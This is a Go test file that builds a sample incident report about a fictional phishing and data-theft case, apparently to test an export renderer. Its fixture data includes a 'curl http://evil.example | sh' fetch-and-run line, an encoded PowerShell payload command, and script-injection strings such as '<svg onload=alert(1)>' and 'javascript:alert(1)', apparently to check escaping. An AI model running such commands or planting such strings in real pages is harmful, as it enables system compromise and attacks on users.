package doc_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"image"
	"image/color"
	"image/png"
	"strings"

	"github.com/incidentkit/incidentkit/export/internal/doc"
	"github.com/incidentkit/incidentkit/export/internal/figure"
)

// shot returns an image file of a size and a shade.
func shot(name string, width, height int, shade uint8) *doc.Image {
	m := image.NewPaletted(image.Rect(0, 0, width, height), color.Palette{color.Gray{shade}, color.RGBA{200, shade, 0, 255}, color.White})
	for n := range m.Pix {
		m.Pix[n] = uint8(n / 37 % 3)
	}
	var b bytes.Buffer
	_ = png.Encode(&b, m)
	sum := sha256.Sum256(b.Bytes())
	return &doc.Image{Data: b.Bytes(), SHA256: hex.EncodeToString(sum[:]), Name: name}
}

func badge(shape, word string, t doc.Tone) doc.Cell {
	return doc.Cell{Text: word, Mark: doc.Mark{Shape: shape, Tone: t, Badge: true}}
}

var (
	high   = badge("▲", "High", doc.High)
	medium = badge("◆", "Medium", doc.Medium)
	low    = badge("▼", "Low", doc.Low)
	info   = badge("○", "Informational", doc.Informational)
)

func cells(texts ...string) []doc.Cell {
	list := make([]doc.Cell, len(texts))
	for n, t := range texts {
		list[n].Text = t
	}
	return list
}

// sample returns a document that has everything that a document can have.
func sample() doc.Document {
	mail, wide := shot("mail.png", 640, 360, 20), shot("wide.png", 1800, 300, 90)
	tall := shot("tall.png", 200, 1400, 140)
	d := doc.Document{
		Label: "Incident 42", Title: "Phishing leads to data theft at three depots, with keys of cloud storage", State: "High · Resolved",
		About: "Generated 2026-03-16 15:30:00 UTC · Times in UTC", Subject: "Incident report: High severity, resolved",
		Tags: []string{"Phishing", "Exfiltration"},
		Brand: doc.Brand{
			Organisation: "Contoso Response Team", Logo: shot("logo.png", 300, 90, 60), Accent: doc.Color{R: 0x0B, G: 0x5D, B: 0x4E},
			Header: "Prepared for the board", Footer: "Contoso Ltd., Harbour Road 7 · soc@contoso.example",
		},
		Marking: doc.Marking{
			Label: "TLP:AMBER", Text: "Limited disclosure, on a need-to-know basis within the organisation and its clients.",
			Ground: doc.Color{R: 1, G: 1, B: 1}, Ink: doc.Color{R: 0xFF, G: 0xC0},
		},
		Cover: doc.Cover{
			States: []doc.State{
				{Label: "Severity", Mark: doc.Mark{Shape: "▲", Tone: doc.High}, Word: "High"},
				{Label: "Status", Mark: doc.Mark{Shape: "✓", Tone: doc.Accent}, Word: "Resolved"},
				{Label: "Verdict", Mark: doc.Mark{Shape: "▲", Tone: doc.Medium}, Word: "True positive: multi-stage attack"},
			},
			Facts: [][]doc.Fact{
				{{"Assigned to", "Noor Haddad", "noor@contoso.example"}, {"Alerts", "74", "19 high, 46 medium, 9 low"}, {"Impacted assets", "125", "37 devices, 37 users, 23 mailboxes, 14 apps, 14 cloud resources"}, {"Priority", "67", "of 100"}},
				{{"First activity", "2026-03-14", "08:00:00 UTC"}, {"Last activity", "2026-03-15", "10:29:00 UTC"}, {"Duration", "1 d 2 h", ""}},
			},
			Glance: []doc.Pair{
				{"What happened", doc.Cell{Text: "A mail with a macro led to credential theft on DESKTOP-7, from where files of three depots were copied to a storage account abroad.", Order: doc.Said}},
				{"Next steps", doc.Cell{Text: "Rotate the keys.\nReimage DESKTOP-7.", Order: doc.Said}},
			},
			Tags:   []string{"Phishing", "تصيّد", "Exfiltration"},
			Notice: []doc.Notice{{doc.High, "Still active although the incident is closed", []string{"2 alerts are new: “Beacon” × 2.", "1 device is not isolated."}}},
			Remark: "Names are replaced: users.",
		},
		Files: []doc.File{{Name: "incident-42.json", Description: "This report as JSON"}, {Name: "incident-42-indicators.csv", Description: "Indicators"}},
	}
	hash := strings.Repeat("9f86d081884c7d65", 4)
	command := `powershell.exe -NoProfile -EncodedCommand ` + strings.Repeat("SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", 4) + ` "C:\Users\noor\AppData\Local\Temp\update\payload.ps1"`
	story := &doc.Table{
		Caption: "Connections · 3 of 12 shown", Columns: []doc.Column{
			{Title: "Number", Width: doc.Narrow, Number: true}, {Title: "Time (UTC)", Width: doc.Stamp}, {Title: "From", Weight: 3}, {Title: "Action", Width: doc.Short},
			{Title: "To", Weight: 3}, {Title: "Alert", Weight: 3},
		},
		Rows: []doc.Row{
			{Cells: cells("1", "2026-03-14 08:00:00", "1 billing@evil.example", "sent to", "2 noor@contoso.example", "Phishing mail delivered")},
			{Cells: cells("2", "2026-03-14 08:04:11", "3 DESKTOP-7", "ran", "4 winword.exe", "Macro ran")},
			{Cells: cells("3", "2026-03-14 08:05:00", "4 winword.exe", "started", "5 powershell.exe", "Macro ran")},
		},
	}
	tree := &doc.Table{Columns: []doc.Column{{Title: "Process", Weight: 5}, {Title: "Verdict", Width: doc.Badged}, {Title: "Time (UTC)", Width: doc.Stamp}}}
	for n, name := range []string{"explorer.exe", "winword.exe", "powershell.exe", "rundll32.exe", "cmd.exe"} {
		row := doc.Row{Cells: []doc.Cell{{Text: name, Style: doc.Bold, Depth: n}, badge("◆", "Suspicious", doc.Medium), {Text: "2026-03-14 08:05:00"}}}
		if n == 0 {
			row.Cells[0].Style = doc.Muted
		}
		if n > 1 {
			row.Note = []doc.Span{{Text: command, Style: doc.Code | doc.Muted}}
		}
		tree.Rows = append(tree.Rows, row)
	}
	evidence := &doc.Table{
		Columns: []doc.Column{
			{Title: "Type", Width: doc.Short}, {Title: "Name", Weight: 1}, {Title: "Verdict", Width: doc.Badged}, {Title: "Remediation", Width: doc.Short},
			{Title: "Alerts", Width: doc.Narrow, Number: true},
		},
		Rows: []doc.Row{
			{
				Cells: []doc.Cell{{Text: "File"}, {Text: `C:\Users\noor\Downloads\invoice-2026-03.docm`, Style: doc.Bold}, badge("▲", "Malicious", doc.High), {Text: "Remediated"}, {Text: "12"}},
				Note:  []doc.Span{{Text: "SHA-256 ", Style: doc.Muted}, {Text: hash, Style: doc.Code}, {Text: "\u00A0· 45 processes", Style: doc.Muted}}, NoteFrom: 1, Anchor: "file1",
			},
			{
				Cells: []doc.Cell{{Text: "URL"}, {Text: "https://evil.example/a?b=c&d=<e>", Style: doc.Code}, badge("◆", "Suspicious", doc.Medium), {}, {Text: "3"}}, NoteFrom: 1,
			},
			{
				Cells: []doc.Cell{{Text: "File"}, {Text: "חשבונית.docm", Style: doc.Bold}, badge("✓", "No threats found", doc.Informational), {}, {Text: "1"}}, NoteFrom: 1, Muted: true,
				Note: []doc.Span{{Text: "False positive", Style: doc.Muted}},
			},
		},
	}
	alerts := &doc.Table{
		Columns: []doc.Column{
			{Title: "Activity (UTC)", Width: doc.Stamp}, {Title: "Severity", Width: doc.Badged}, {Title: "Alert", Weight: 5}, {Title: "Category", Weight: 3}, {Title: "Status", Weight: 3},
		},
		Rows: []doc.Row{
			{
				Cells: []doc.Cell{
					{Text: "2026-03-14 08:00:00\nto 10:29:00"}, high, {Text: "Credentials read from LSASS × 3", Style: doc.Bold, Order: doc.Datum, Link: "https://security.example/alerts/1"},
					{Text: "Credential access\nT1003.001 LSASS Memory"}, {Text: "✓ 3 resolved"},
				},
				Note: []doc.Span{{Text: "Endpoint Sensor", Style: doc.Muted}}, NoteFrom: 2, Bookmark: "Credentials read from LSASS",
				Flow: []doc.Block{doc.Prose{Source: "A process read the memory of LSASS.\nThis is how credentials are stolen.\n\n- [ ] reset the passwords\n- [x] isolate the device", Lines: true}},
			},
			{Cells: []doc.Cell{{Text: "2026-03-14 08:00:00"}, medium, {Text: "DESKTOP-7, noor@contoso.example and 4 more", Depth: 1}, {}, {Text: "✓ Resolved"}}, NoteFrom: 2},
			{Cells: []doc.Cell{{Text: "2026-03-14 09:12:00"}, low, {Text: "DESKTOP-8", Depth: 1}, {}, {Text: "◐ In progress"}}, NoteFrom: 2, Note: []doc.Span{{Text: "Reported twice", Style: doc.Muted}}},
			{Cells: []doc.Cell{{Text: "2026-03-14 10:29:00"}, info, {Text: "تنبيه: دخول غير معتاد", Style: doc.Bold, Order: doc.Datum}, {Text: "Initial access"}, {Text: "● New"}}, NoteFrom: 2, Muted: true,
				Note: []doc.Span{{Text: "False positive", Style: doc.Muted}}},
		},
	}
	comment := "# Findings\n\nThe **mail** came from `192.0.2.1`, see [the gateway](https://gw.example/?q=1&amp;r=2) and ![the mail](attachment:mail.png).\n\n" +
		"1. revoke\n2. wipe\n\n> quoted\n\n```\ncurl http://evil.example | sh\n```\n\n| host | state | owner | since | place |\n|---|---|---|---|---|\n| one | ~~up~~ down | Noor | 2026-03-14 | Harbour Road 7 |\n\n<b>not bold</b>"
	log := &doc.Table{
		Columns: []doc.Column{{Title: "Time (UTC)", Width: doc.Stamp}, {Title: "By", Width: doc.Actor}, {Title: "Activity", Width: doc.Actor}, {Title: "Details"}},
		Rows: []doc.Row{
			{Cells: []doc.Cell{{Text: "2026-03-14 08:06:00"}, {Text: "alert-collector (automation)"}, {Text: "Incident created", Style: doc.Bold}, {Spans: []doc.Span{{Text: "Name: ", Style: doc.Muted}, {Text: "Phishing leads to data theft"}, {Text: "\n74 alerts: “Beacon” × 12 and 3 other titles"}}}}, NoteFrom: 1, Bookmark: "2026-03-14"},
			{Cells: []doc.Cell{{Text: "2026-03-14 09:00:00"}, {Text: "Noor Haddad (noor@contoso.example)"}, {Text: "Commented", Style: doc.Bold}, {}}, NoteFrom: 1, Flow: []doc.Block{
				doc.Prose{Source: comment},
				doc.Picture{Image: mail, Caption: "Attached: mail.png, image/png, 640 × 360 pixels, SHA-256 " + mail.SHA256},
				doc.Picture{Image: wide, Caption: "Attached: wide.png"}, doc.Picture{Image: tall, Caption: "Attached: tall.png"},
			}},
			{Cells: []doc.Cell{{Text: "2026-03-14 10:00:00"}, {Text: "Kai"}, {Text: "Commented", Style: doc.Bold}, {}}, NoteFrom: 1, Note: []doc.Span{{Text: "[Comment redacted]", Style: doc.Muted}}},
			{Cells: []doc.Cell{{Text: "2026-03-14 11:00:00"}, {Text: "Kai"}, {Text: "Commented", Style: doc.Bold}, {}}, NoteFrom: 1, Flow: []doc.Block{
				doc.Picture{Image: mail, Caption: "Attached: mail.png"}, doc.Picture{Caption: "Attached: lost.png. Not shown: the content is missing"},
				doc.Picture{Image: &doc.Image{Data: []byte("<svg onload=alert(1)>"), SHA256: "0f", Name: "no.png"}, Caption: "Attached: no.png"},
				doc.Text{{Text: "Sent by mail. ", Style: doc.Muted}, {Text: "Answer", Link: "mailto:kai@contoso.example"}},
			}},
		},
	}
	d.Sections = []doc.Section{
		{ID: "overview", Title: "Overview", Blocks: []doc.Block{
			doc.Heading{Level: 2, Text: "Description", Bookmark: true},
			doc.Prose{Source: "First line of the description.\nSecond line.\n\n* a list\n* of two", Lines: true},
			doc.Notice{Tone: doc.Medium, Title: "Check it against the records", Lines: []string{"Written by a model."}},
			doc.Heading{Level: 2, Text: "All facts"},
			doc.Pairs{PerRow: 2, List: []doc.Pair{
				{"Number", doc.Cell{Text: "42"}}, {"Identifier", doc.Cell{Text: "0b1ff70e-6c6d-4f0a-9d5c-4f1d4e1f2a3b", Style: doc.Code}},
				{"Products", doc.Cell{Text: "Endpoint Sensor, Mail Gateway, Cloud Posture"}}, {"Also in microsoftDefender", doc.Cell{Text: "924565", Link: "https://security.example/incidents/924565"}},
				{"Not a link", doc.Cell{Text: "x", Link: "javascript:alert(1)"}}, {"Severity", high},
			}},
			doc.Pairs{PerRow: 1, List: []doc.Pair{{"Resolved", doc.Cell{Text: "2026-03-15 12:00:00 UTC"}}, {"By", doc.Cell{Spans: []doc.Span{{Text: "Noor", Style: doc.Bold}, {Text: " for the night shift"}}}}}},
		}},
		{ID: "attackStory", Title: "Attack story", Blocks: []doc.Block{
			doc.Heading{Level: 2, Text: "Attack graph"}, doc.Graph{ID: "graph", Title: "Attack graph", Caption: "Numbers show chronological order.", Figure: graph()},
			story, doc.Heading{Level: 2, Text: "Processes on DESKTOP-7"}, tree,
			doc.Heading{Level: 2, Text: "Threat categories"}, doc.Chart{ID: "lanes", Title: "Alerts along the threat categories", Caption: "4 alerts.", Figure: chart()},
		}},
		{ID: "evidence", Title: "Evidence · 3 of 196 shown", Blocks: []doc.Block{
			evidence, doc.Text{{Text: "193 more evidence items are not shown, the least telling.", Style: doc.Muted, Order: doc.Said}},
			doc.Heading{Level: 2, Text: "Apps"}, doc.Heading{Level: 3, Text: "Below"}, &doc.Table{Caption: "Nothing here", Columns: []doc.Column{{}}, Empty: "No apps."},
		}},
		{ID: "alerts", Title: "Related alerts", Blocks: []doc.Block{alerts}},
		{ID: "activity", Title: "Activity log", Blocks: []doc.Block{log}},
	}
	return d
}

func graph() figure.Graph {
	node := func(number, label, note string, ink figure.Ink) figure.Node {
		return figure.Node{Number: number, Label: label, Note: note, Ink: ink}
	}
	return figure.Graph{
		Columns: []figure.Column{
			{Title: "Source", Nodes: []figure.Node{node("1", "billing@evil.example", "Mail sender · Malicious", figure.High)}},
			{Title: "Affected", Nodes: []figure.Node{node("2", "noor@contoso.example", "User", figure.Note), node("3", "DESKTOP-7", "Device · Suspicious", figure.Medium)}},
			{Title: "Artefacts", Nodes: []figure.Node{node("4", "winword.exe", "Process", figure.Note), node("5", "powershell.exe", "Process · Malicious", figure.High)}},
			{Title: "Destination", Nodes: []figure.Node{node("6", "12 IP addresses", "2 malicious", figure.Note)}},
		},
		Edges: []figure.Edge{
			{From: [2]int{0, 0}, To: [2]int{1, 0}, Strong: true, Label: "1"}, {From: [2]int{1, 1}, To: [2]int{2, 0}, Label: "2"}, {From: [2]int{2, 0}, To: [2]int{2, 1}, Label: "3"},
			{From: [2]int{2, 1}, To: [2]int{3, 0}, Strong: true, Label: "4"},
		},
	}
}

func chart() figure.Chart {
	c := figure.Chart{Axis: "Time (UTC)", Nowhen: "No time", Levels: [...]string{"Unrated", "Informational", "Low", "Medium", "High"}}
	for n, title := range []string{"Initial access", "Execution", "Credential access", "Exfiltration"} {
		c.Lanes = append(c.Lanes, figure.Lane{Title: title, Note: "1 alert", More: []string{"T1003.001"}, Marks: []figure.Event{{At: int64(1773475200 + n*3600), Timed: n < 3, Level: figure.Level(n + 1)}}})
	}
	return c
}
